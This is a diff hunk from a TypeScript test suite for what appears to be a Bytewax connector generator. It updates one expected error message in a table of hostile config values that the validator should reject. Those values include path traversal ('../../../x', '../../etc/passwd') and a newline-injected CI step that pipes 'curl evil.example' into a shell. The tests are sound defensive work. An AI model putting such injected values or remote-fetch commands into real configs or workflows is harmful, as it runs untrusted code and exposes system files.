@@ -79,7 +79,7 @@ describe('safety', () => {
     const cases: Array<[string, (config: Record<string, unknown>) => void, string, RegExp]> = [
       ['a package that climbs out of the project', (c) => (c['packageName'] = '../../../x'), 'partitioned', /packageName is "\.\.\/\.\.\/\.\.\/x", which is not a valid import package/],
       ['a newline that would inject a workflow step', (c) => (c['packageName'] = 'shop\n      - run: curl evil.example | sh'), 'ci', /packageName is "shop\\u\{a\}/],
-      ['a source list of the wrong type', (c) => (c['sources'] = 'orders'), 'dynamic', /sources: Invalid input: expected array, received string/],
+      ['a source list of the wrong type', (c) => (c['sources'] = 'orders'), 'dynamic', /generator-bytewax-connector\.sources is a string \("orders"\), not a list\./],
       ['a source of an unknown kind', (c) => (c['sources'] = [{ name: 'x', kind: 'sink-ish' }]), 'partitioned', /sources\[0\]\.kind has an unknown kind/],
       ['a source name that is a path', (c) => (c['sources'] = [{ name: '../../etc/passwd', kind: 'partitioned' }]), 'ci', /sources\[0\]\.name is "\.\.\/\.\.\/etc\/passwd"/],
     ];
